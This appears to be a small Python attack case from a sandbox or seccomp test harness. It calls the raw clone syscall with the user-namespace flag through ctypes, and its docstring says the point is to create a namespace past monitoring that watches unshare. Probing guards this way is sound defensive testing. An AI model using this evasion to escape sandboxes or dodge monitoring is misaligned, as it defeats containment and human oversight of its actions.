"""Makes a user namespace by clone, past what watches unshare."""

GUARDS = ("seccomp",)


import ctypes
import os


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    child = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return "a child in a namespace of its own"
    print(os.strerror(ctypes.get_errno()))
